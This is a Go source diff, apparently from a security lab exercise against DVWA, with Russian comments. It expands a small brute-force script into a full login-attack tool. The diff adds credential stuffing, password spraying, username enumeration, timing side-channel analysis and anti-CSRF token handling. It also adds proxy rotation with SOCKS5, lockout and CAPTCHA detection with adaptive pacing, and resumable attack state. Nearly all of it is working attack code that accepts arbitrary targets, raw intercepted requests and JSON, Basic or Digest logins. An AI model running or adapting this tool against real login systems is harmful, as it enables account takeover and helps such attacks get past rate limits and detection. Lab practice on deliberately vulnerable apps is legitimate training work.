@@ -1,83 +1,548 @@
 package main
 
 import (
-	"bufio"
+	"context"
+	"flag"
 	"fmt"
-	"io"
-	"net/http"
+	"net/url"
 	"os"
+	"os/signal"
+	"regexp"
 	"strings"
-	"sync"
+	"time"
 )
 
+// Флаг задан в командной строке явно
+func flagSet(name string) bool {
+	set := false
+	flag.Visit(func(f *flag.Flag) {
+		if f.Name == name {
+			set = true
+		}
+	})
+	return set
+}
+
 func main() {
-	url := "http://localhost/dvwa/vulnerabilities/brute/?username=%v&password=%v&Login=Login#"
-	client := new(http.Client)
+	strategy := flag.String("strategy", strategyClusterBomb, "стратегия: clusterbomb, pitchfork, stuffing, spray")
+	usersPath := flag.String("users", "login_list.txt", "файл с логинами")
+	passwordsPath := flag.String("passwords", "password_list.txt", "файл с паролями")
+	comboPath := flag.String("combo", "", "файл с парами логин:пароль для стратегии stuffing")
+	stream := flag.Bool("stream", false, "читать словарь и файл пар при переборе, не загружая в память")
+	maxLine := flag.Int("max-line", defaultMaxLine, "предел длины строки словаря в байтах, длинные строки пропускаются")
+	maxWords := flag.Int("max-words", 0, "сколько паролей взять из словаря (0 — все)")
+	dedup := flag.Bool("dedup", true, "пропускать повторы в словаре")
+	encoding := flag.String("encoding", encodingAuto, "кодировка словарей: auto (UTF-8, иначе Windows-1251), utf-8, cp1251")
+	minLen := flag.Int("min-len", 0, "минимальная длина пароля по политике цели")
+	maxLen := flag.Int("max-len", 0, "максимальная длина пароля по политике цели (0 — без ограничения)")
+	require := flag.String("require", "", "классы символов, обязательные по политике цели: ?l ?u ?d ?s, например ?l?d")
+	charset := flag.String("charset", "", "классы символов, из которых может состоять пароль: ?l ?u ?d ?s ?a (пусто — любые)")
+	sprayDelay := flag.Duration("spray-delay", 0, "пауза между раундами стратегии spray")
+	enumerate := flag.Bool("enumerate", false, "режим перебора логинов: поиск существующих по различиям в ответах на неверный пароль")
+	enumPass := flag.String("enum-pass", "", "заведомо неверный пароль для -enumerate (по умолчанию случайный)")
+	enumSamples := flag.Int("enum-samples", 3, "попыток на логин в режиме -enumerate, для оценки времени ответа")
+	enumOut := flag.String("enum-out", "valid_users.txt", "файл для найденных логинов, подходит для -users")
+	timing := flag.Bool("timing", false, "анализ утечки через время ответа (CWE-208): серия попыток с существующим и несуществующим логином")
+	timingUser := flag.String("timing-user", "admin", "существующий логин для -timing")
+	timingInvalid := flag.String("timing-invalid-user", "", "несуществующий логин для -timing (по умолчанию случайный)")
+	timingPass := flag.String("timing-pass", "", "верный пароль -timing-user: дополнительно сравниваются пароли с верным и неверным началом")
+	timingSamples := flag.Int("timing-samples", 100, "попыток в каждой группе -timing")
+	timingAlpha := flag.Float64("timing-alpha", 0.01, "уровень значимости для -timing")
+	timingReport := flag.String("timing-report", "", "файл для отчёта -timing в формате Markdown")
+	userLists := flag.String("userlists", "", "каталог с целевыми словарями <логин>.txt (LAB2 -gen-targeted)")
+	protocol := flag.String("protocol", protocolForm, "протокол входа: form, basic, digest, json, authsys")
+	userField := flag.String("user-field", "username", "поле логина в JSON-запросе для -protocol json")
+	passField := flag.String("pass-field", "password", "поле пароля в JSON-запросе для -protocol json")
+	tokenField := flag.String("token-field", "access_token", "поле ответа с bearer-токеном для -protocol json, через точку для вложенных (data.token)")
+	authToken := flag.String("auth-token", "", "значение параметра token для -protocol authsys и метки §AUTHTOKEN§ в шаблоне")
+	target := flag.String("url", "http://localhost/dvwa/vulnerabilities/brute/", "адрес формы входа (с -request по умолчанию — из запроса)")
+	cookie := flag.String("cookie", "", "готовые cookie сессии, например PHPSESSID=...; если не заданы, выполняется вход")
+	loginPage := flag.String("login-url", "", "страница входа в приложение (по умолчанию ../../login.php от -url, off — не входить)")
+	setupUser := flag.String("setup-user", "admin", "логин для входа в приложение (пустой — только посетить страницу входа)")
+	setupPass := flag.String("setup-pass", "password", "пароль для входа в приложение")
+	security := flag.String("security", "low", "уровень защиты DVWA: low, medium, high, impossible")
+	useToken := flag.Bool("token", false, "получать анти-CSRF токен перед каждой попыткой (включено для high и impossible)")
+	tokenName := flag.String("token-name", "user_token", "имя скрытого поля формы с токеном")
+	tokenRegex := flag.String("token-regex", "", "регулярное выражение для токена, значение берётся из первой непустой группы")
+	workers := flag.Int("workers", 16, "количество одновременных попыток")
+	rate := flag.Float64("rate", 0, "ограничение скорости, запросов в секунду ко всем хостам (0 — без ограничения)")
+	hostRate := flag.Float64("host-rate", 0, "ограничение скорости, запросов в секунду к одному хосту (0 — без ограничения)")
+	jitter := flag.Duration("jitter", 0, "случайная добавка к паузе перед каждым запросом, от 0 до указанной")
+	maxBackoff := flag.Duration("max-backoff", 30*time.Second, "предел автоматического замедления и паузы по Retry-After")
+	slowFactor := flag.Float64("slow-factor", 3, "замедляться, если ответ дольше средней задержки во столько раз (0 — не следить за задержкой)")
+	proxyList := flag.String("proxy", "", "прокси через запятую: http://host:port, socks5://[user:pass@]host:port")
+	proxyFile := flag.String("proxy-file", "", "файл со списком прокси, по одному в строке")
+	proxyRotation := flag.String("proxy-rotation", rotationRoundRobin, "чередование прокси: roundrobin или random")
+	insecure := flag.Bool("insecure", false, "не проверять TLS-сертификат (для перехватывающего прокси)")
+	timeout := flag.Duration("timeout", 30*time.Second, "предельное время соединения и ожидания ответа")
+	retries := flag.Int("retries", 3, "повторов попытки при таймауте, обрыве соединения или ответе 5xx")
+	retryDelay := flag.Duration("retry-delay", 500*time.Millisecond, "пауза перед первым повтором, дальше удваивается")
+	retryMaxDelay := flag.Duration("retry-max-delay", 30*time.Second, "предел паузы между повторами")
+	failedPath := flag.String("failed", "failed.txt", "файл для пар логин:пароль, которые не удалось проверить (повтор: -strategy stuffing -combo)")
+	statePath := flag.String("state", "lab3.state", "файл состояния атаки для продолжения")
+	stopFirst := flag.Bool("stop-first", false, "остановить атаку после первого найденного пароля")
+	resume := flag.Bool("resume", false, "продолжить атаку из файла состояния: проверенные пары и взломанные логины пропускаются")
+	auditPath := flag.String("audit", "", "журнал попыток в формате JSON Lines (пустой — не вести)")
+	reportPath := flag.String("report", "", "итоговый отчёт: записываются <имя>.json и <имя>.md (пустой — не записывать)")
+	maskMode := flag.String("mask-passwords", maskHash, "запись паролей в журнал и отчёт: hash, redact или plain")
+	templatePath := flag.String("template", "", "JSON-файл с шаблоном запроса (method, url, headers, body с метками §USER§, §PASS§, §TOKEN§, §AUTHTOKEN§)")
+	requestPath := flag.String("request", "", "файл с сырым HTTP/1.1 запросом из перехватывающего прокси, используется как шаблон")
+	userParam := flag.String("user-param", "", "имя параметра сырого запроса, куда подставляется логин")
+	passParam := flag.String("pass-param", "", "имя параметра сырого запроса, куда подставляется пароль")
+	tokenParam := flag.String("token-param", "", "имя параметра сырого запроса, куда подставляется токен")
+	successRule := flag.String("success", "", "условие успешного входа, например status:302 & location:index или json:access_token")
+	failureRule := flag.String("failure", defaultRules.failure, "условие неудачной попытки")
+	lockoutRule := flag.String("lockout", defaultRules.lockout, "условие блокировки учётной записи или срабатывания защиты")
+	captchaRule := flag.String("captcha", defaultRules.captcha, "условие появления CAPTCHA")
+	lockoutPause := flag.Duration("lockout-pause", time.Minute, "пауза для логина после срабатывания защиты, удваивается при повторах")
+	timeFactor := flag.Float64("defense-time-factor", 5, "ответ во столько раз дольше обычного считается признаком защиты (0 — не проверять)")
+	lengthDiff := flag.Int("defense-length-diff", 16, "отклонение длины ответа на неудачную попытку, считающееся признаком защиты (-1 — не проверять)")
+	errorRule := flag.String("error", defaultRules.errorM, "условие, при котором ответ считается ошибкой")
+	flag.Parse()
 
-	var okLogin, okPass string
-	loginFile, err := os.Open("login_list.txt")
+	if *workers < 1 {
+		fmt.Println("Количество потоков должно быть не менее 1.")
+		return
+	}
+	if *protocol == protocolAuthSys && !flagSet("url") {
+		*target = "http://localhost:8080/login"
+	}
+	targetURL, err := url.Parse(*target)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	if *protocol != protocolForm && (*templatePath != "" || *requestPath != "") {
+		fmt.Println("Флаги -template и -request работают только с протоколом form.")
+		return
+	}
+	var tmpl *requestTemplate
+	var rawCookie string
+	switch {
+	case *templatePath != "" && *requestPath != "":
+		fmt.Println("Флаги -template и -request нельзя использовать вместе.")
+		return
+	case *templatePath != "":
+		if tmpl, err = loadTemplate(*templatePath); err != nil {
+			fmt.Println(err)
+			return
+		}
+	case *requestPath != "":
+		params := injectionParams{user: *userParam, pass: *passParam, token: *tokenParam}
+		if tmpl, rawCookie, err = loadRawRequest(*requestPath, targetURL.Scheme, params); err != nil {
+			fmt.Println(err)
+			return
+		}
+		// Форма, токен и вход — на хосте из запроса, если -url не задан явно
+		if !flagSet("url") {
+			if u := tmpl.target(targetURL); u != nil {
+				targetURL = u
+			}
+		}
+	}
+	var tokenRe *regexp.Regexp
+	if *useToken || *security == "high" || *security == "impossible" || tmpl != nil && tmpl.usesToken() {
+		tokenRe = hiddenInputRegexp(*tokenName)
+		if *tokenRegex != "" {
+			if tokenRe, err = regexp.Compile(*tokenRegex); err != nil {
+				fmt.Println(err)
+				return
+			}
+		}
+	}
+	if tmpl == nil {
+		tmpl = dvwaTemplate(*security, tokenRe != nil)
+	}
+	proxies, err := parseProxies(strings.Split(*proxyList, ","))
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	if *proxyFile != "" {
+		lines, err := readLines(*proxyFile)
+		if err == nil {
+			var more []*url.URL
+			more, err = parseProxies(lines)
+			proxies = append(proxies, more...)
+		}
+		if err != nil {
+			fmt.Println(err)
+			return
+		}
+	}
+	pool, err := newProxyPool(proxies, *proxyRotation)
 	if err != nil {
 		fmt.Println(err)
 		return
 	}
-	defer loginFile.Close()
+	lim := newLimiter(limitConfig{
+		Rate:       *rate,
+		HostRate:   *hostRate,
+		Jitter:     *jitter,
+		MaxBackoff: *maxBackoff,
+		SlowFactor: *slowFactor,
+	})
+	transport := &limitedTransport{base: newTransport(pool, *insecure, *timeout), limiter: lim}
 
-	loginScanner := bufio.NewScanner(loginFile)
-	wg := new(sync.WaitGroup)
-	for loginScanner.Scan() {
-		login := loginScanner.Text()
-		login = strings.Replace(login, " ", "+", -1)
-		wg.Add(1)
-		go func() {
-			passFile, err := os.Open("password_list.txt")
-			if err != nil {
+	var auth authenticator
+	if *protocol == protocolForm {
+		cfg := sessionConfig{
+			Transport: transport,
+			Target:    targetURL,
+			Cookie:    *cookie,
+			Security:  *security,
+			SetupUser: *setupUser,
+			SetupPass: *setupPass,
+			TokenRe:   tokenRe,
+			Template:  tmpl,
+			AuthToken: *authToken,
+		}
+		// Cookie из сырого запроса сохраняются как есть, включая уровень защиты,
+		// если он не задан флагом явно
+		if rawCookie != "" && cfg.Cookie == "" {
+			cfg.Cookie = rawCookie
+			if !flagSet("security") {
+				cfg.Security = ""
+			}
+		}
+		switch *loginPage {
+		case "off":
+		case "":
+			cfg.LoginURL = targetURL.ResolveReference(&url.URL{Path: "../../login.php"})
+		default:
+			if cfg.LoginURL, err = url.Parse(*loginPage); err != nil {
 				fmt.Println(err)
 				return
 			}
+		}
+		if auth, err = newSession(cfg); err != nil {
+			fmt.Println("Не удалось создать сессию:", err)
+			return
+		}
+	} else {
+		auth, err = newAuthenticator(*protocol, protocolConfig{
+			Target:    targetURL,
+			Transport: transport,
+			UserField: *userField,
+			PassField: *passField,
+			AuthToken: *authToken,
+		})
+		if err != nil {
+			fmt.Println(err)
+			return
+		}
+	}
+
+	rules := classifierRules{
+		success: *successRule,
+		failure: *failureRule,
+		lockout: *lockoutRule,
+		captcha: *captchaRule,
+		errorM:  *errorRule,
+	}
+	// Для других протоколов правила DVWA не подходят: флаги, не заданные
+	// явно, берутся из правил протокола
+	if *protocol != protocolForm {
+		pr := protocolRules(*protocol, *tokenField)
+		for _, r := range []struct {
+			flag     string
+			dst, def *string
+		}{
+			{"success", &rules.success, &pr.success},
+			{"failure", &rules.failure, &pr.failure},
+			{"lockout", &rules.lockout, &pr.lockout},
+			{"captcha", &rules.captcha, &pr.captcha},
+			{"error", &rules.errorM, &pr.errorM},
+		} {
+			if !flagSet(r.flag) {
+				*r.dst = *r.def
+			}
+		}
+	}
+	cls, err := newClassifier(rules)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+
+	// Ctrl+C останавливает перебор: новые попытки не начинаются, начатые
+	// прерываются и при продолжении атаки выполняются снова
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer stop()
+
+	if cls.needsBaseline() {
+		if cls.baseline, err = measureBaseline(ctx, auth); err != nil {
+			fmt.Println("Не удалось получить базовый ответ:", err)
+			return
+		}
+		fmt.Printf("Длина базового ответа: %d\n", cls.baseline)
+	}
+
+	defenses := newDefenseMonitor(defenseConfig{Pause: *lockoutPause, TimeFactor: *timeFactor, LengthDiff: *lengthDiff})
+	retry := retryPolicy{Retries: *retries, Delay: *retryDelay, MaxDelay: *retryMaxDelay}
+	attempt := defenses.guard(retry.wrap(loginAttempt(auth, cls)))
 
-			passScanner := bufio.NewScanner(passFile)
-
-			for passScanner.Scan() {
-				pass := passScanner.Text()
-				pass = strings.Replace(pass, " ", "+", -1)
-				req, err := http.NewRequest(http.MethodGet, fmt.Sprintf(url, login, pass), nil)
-				req.Header.Add("Cookie", "PHPSESSID=9jkge3ibsrqj8atog5bnt1ta63; security=low")
-				if err != nil {
-					fmt.Println(err)
-					return
-				}
-				resp, err := client.Do(req)
-				if err != nil {
-					fmt.Println(err)
-					return
-				}
-				if resp.StatusCode != 200 {
-					fmt.Printf("status code = %v\n", resp.StatusCode)
-					continue
-				}
-				body, err := io.ReadAll(resp.Body)
-				if err != nil {
-					fmt.Println(err)
-					return
-				}
-				bodyStr := string(body)
-				if !strings.Contains(bodyStr, "Username and/or password incorrect") {
-					fmt.Printf("SUCCESS!\nlogin: %v\npass: %v\n", login, pass)
-					okLogin = login
-					okPass = pass
-				}
+	if *timing {
+		rep, err := runTimingAnalysis(ctx, loginAttempt(auth, cls), targetURL.String(), timingConfig{
+			User:        *timingUser,
+			InvalidUser: *timingInvalid,
+			Password:    *timingPass,
+			Samples:     *timingSamples,
+			Warmup:      10,
+			Alpha:       *timingAlpha,
+		})
+		if err != nil {
+			fmt.Println(err)
+			return
+		}
+		rep.print()
+		if *timingReport != "" {
+			if err := rep.write(*timingReport); err != nil {
+				fmt.Println(err)
+				return
+			}
+			fmt.Printf("Отчёт записан в %s\n", *timingReport)
+		}
+		return
+	}
+
+	if *enumerate {
+		if *enumSamples < 1 {
+			fmt.Println("Количество попыток на логин должно быть не менее 1.")
+			return
+		}
+		users, err := readLines(*usersPath)
+		if err != nil {
+			fmt.Println(err)
+			return
+		}
+		valid := runEnumeration(ctx, *workers, attempt, users, *enumPass, *enumSamples)
+		defenses.report()
+		pool.summary()
+		if err := writeLines(*enumOut, valid); err != nil {
+			fmt.Println(err)
+			return
+		}
+		fmt.Printf("Найдено логинов: %d из %d, список записан в %s\n", len(valid), len(users), *enumOut)
+		return
+	}
+
+	if err := checkMaskMode(*maskMode); err != nil {
+		fmt.Println(err)
+		return
+	}
+	switch *encoding {
+	case encodingAuto, encodingUTF8, encodingCP1251:
+	default:
+		fmt.Printf("Неизвестная кодировка %q: auto, utf-8 или cp1251\n", *encoding)
+		return
+	}
+	policy := passwordPolicy{MinLen: *minLen, MaxLen: *maxLen}
+	if policy.Require, err = parseCharClasses(*require); err != nil {
+		fmt.Println(err)
+		return
+	}
+	if policy.Allowed, err = parseCharClasses(*charset); err != nil {
+		fmt.Println(err)
+		return
+	}
+	wordOpts := wordlistOptions{
+		MaxLine:  *maxLine,
+		MaxWords: *maxWords,
+		Dedup:    *dedup,
+		Encoding: *encoding,
+		Policy:   policy,
+	}
+	lists, err := loadAttackLists(*strategy, *usersPath, *passwordsPath, *comboPath, *userLists, wordOpts, *stream)
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+
+	state := newAttackState(targetURL.String())
+	if *resume {
+		loaded, err := loadAttackState(*statePath)
+		if err != nil {
+			fmt.Println("Не удалось загрузить состояние:", err)
+			return
+		}
+		if loaded.Target != state.Target {
+			fmt.Printf("Состояние относится к другой цели: %s\n", loaded.Target)
+			return
+		}
+		state = loaded
+		fmt.Printf("Продолжение атаки: проверено пар %d, найдено паролей %d\n", len(state.done), len(state.Found))
+		for login, pass := range state.Found {
+			fmt.Printf("  уже найден: %v / %v\n", login, pass)
+		}
+	}
+
+	var audit *auditLog
+	if *auditPath != "" {
+		if audit, err = openAuditLog(*auditPath, *maskMode); err != nil {
+			fmt.Println(err)
+			return
+		}
+		defer func() {
+			// После ошибки записи журнал уже закрыт
+			if audit == nil {
+				return
+			}
+			if err := audit.Close(); err != nil {
+				fmt.Println(err)
 			}
-			passFile.Close()
-			wg.Done()
 		}()
 	}
-	wg.Wait()
 
-	if err := loginScanner.Err(); err != nil {
+	// Найденный пароль отменяет оставшиеся попытки своего логина,
+	// а с -stop-first — всю атаку
+	run, cancelRun := context.WithCancel(ctx)
+	defer cancelRun()
+	var stopRun context.CancelFunc
+	if *stopFirst {
+		stopRun = cancelRun
+	}
+	hits := newFoundSet(state.Found, stopRun)
+	defer hits.release()
+
+	// Производитель формирует задания по стратегии, фильтр отбрасывает
+	// пары, которые пробовать не нужно, а задания логинов на паузе после
+	// срабатывания защиты придерживаются до конца паузы
+	raw := make(chan job)
+	filtered := make(chan job)
+	jobs := make(chan job)
+	var produceErr error
+	var skipped int
+	producerDone := make(chan struct{})
+	go func() {
+		defer close(raw)
+		produceErr = produceJobs(run, raw, *strategy, lists, *sprayDelay)
+	}()
+	go func() {
+		defer close(filtered)
+		skipped = state.filter(run, raw, filtered)
+	}()
+	go func() {
+		defer close(producerDone)
+		defer close(jobs)
+		defenses.hold(run, filtered, jobs)
+	}()
+
+	var attempts, failures, failed, locked, found, cancelled int
+	var unchecked []job
+	var latencies []time.Duration
+	started := time.Now()
+	lastSave := started
+	for r := range runPool(run, *workers, jobs, hits.guard(attempt)) {
+		if r.verdict == verdictSkipped {
+			cancelled++
+			continue
+		}
+		attempts++
+		state.record(r)
+		if r.elapsed > 0 {
+			latencies = append(latencies, r.elapsed)
+		}
+		if audit != nil {
+			if err := audit.write(r); err != nil {
+				fmt.Println("Не удалось записать журнал:", err)
+				audit.Close()
+				audit = nil
+			}
+		}
+		if time.Since(lastSave) > 5*time.Second {
+			if err := state.save(*statePath); err != nil {
+				fmt.Println("Не удалось сохранить состояние:", err)
+			}
+			if audit != nil {
+				audit.flush()
+			}
+			lastSave = time.Now()
+		}
+		switch r.verdict {
+		case verdictFailure:
+			failures++
+		case verdictError:
+			failed++
+			unchecked = append(unchecked, r.job)
+			class, _ := classifyError(r)
+			fmt.Printf("%v / %v: %s, попыток %d: %v\n", r.login, r.pass, class, r.tries, r.err)
+		case verdictLockout:
+			locked++
+			unchecked = append(unchecked, r.job)
+			fmt.Printf("LOCKOUT: %v / %v (status code = %v)\n", r.login, r.pass, r.status)
+		case verdictSuccess:
+			fmt.Printf("SUCCESS!\nlogin: %v\npass: %v\n", r.login, r.pass)
+			found++
+		}
+	}
+	// После отмены пул завершается, не дочитав задания, поэтому
+	// производителя нужно дождаться, прежде чем читать produceErr
+	<-producerDone
+	if produceErr != nil && run.Err() == nil {
+		fmt.Println(produceErr)
+	}
+	if skipped > 0 {
+		fmt.Printf("Пропущено пар: %d (уже проверены или пароль логина найден)\n", skipped)
+	}
+
+	fmt.Printf("Попыток: %d, ошибок: %d, блокировок: %d, найдено: %d\n", attempts, failed, locked, found)
+	if cancelled > 0 {
+		fmt.Printf("Отменено попыток: %d\n", cancelled)
+	}
+	if err := writeFailedQueue(*failedPath, unchecked); err != nil {
 		fmt.Println(err)
+	} else if len(unchecked) > 0 {
+		fmt.Printf("Не проверено пар: %d, список в %s (повтор: -strategy stuffing -combo %s)\n", len(unchecked), *failedPath, *failedPath)
+	}
+	defenses.report()
+	pool.summary()
+	if lim.slowdowns > 0 || lim.retryAfters > 0 {
+		fmt.Printf("Замедлений: %d, пауз по Retry-After: %d\n", lim.slowdowns, lim.retryAfters)
+	}
+	printFound(hits.all())
+	if *stopFirst && found > 0 && ctx.Err() == nil {
+		fmt.Println("Атака остановлена после первого найденного пароля")
 	}
 
-	if okPass == "" && okLogin == "" {
-		fmt.Printf("Пароль не найден!\n")
+	complete := run.Err() == nil && produceErr == nil && len(unchecked) == 0
+	if *reportPath != "" {
+		rep := &attackReport{
+			Target:    targetURL.String(),
+			Strategy:  *strategy,
+			Started:   started,
+			Finished:  time.Now(),
+			Complete:  complete,
+			Attempts:  attempts,
+			Failures:  failures,
+			Errors:    failed,
+			Lockouts:  locked,
+			Cancelled: cancelled,
+			Skipped:   skipped,
+			Found:     []foundCredential{},
+			Defenses:  defenses.summary(*maskMode),
+			Timing:    timingHistogram(latencies),
+			Proxies:   pool.stats(),
+		}
+		for _, h := range hits.all() {
+			rep.Found = append(rep.Found, foundCredential{User: h.login, Password: maskPassword(h.pass, *maskMode)})
+		}
+		if base, err := rep.write(*reportPath); err != nil {
+			fmt.Println("Не удалось записать отчёт:", err)
+		} else {
+			fmt.Printf("Отчёт записан в %s.json и %s.md\n", base, base)
+		}
+	}
+
+	if complete {
+		if err := removeAttackState(*statePath); err != nil {
+			fmt.Println(err)
+		}
+		return
+	}
+	if err := state.save(*statePath); err != nil {
+		fmt.Println("Не удалось сохранить состояние:", err)
+		return
 	}
+	fmt.Printf("Состояние сохранено в %s, для продолжения запустите программу с флагом -resume\n", *statePath)
 }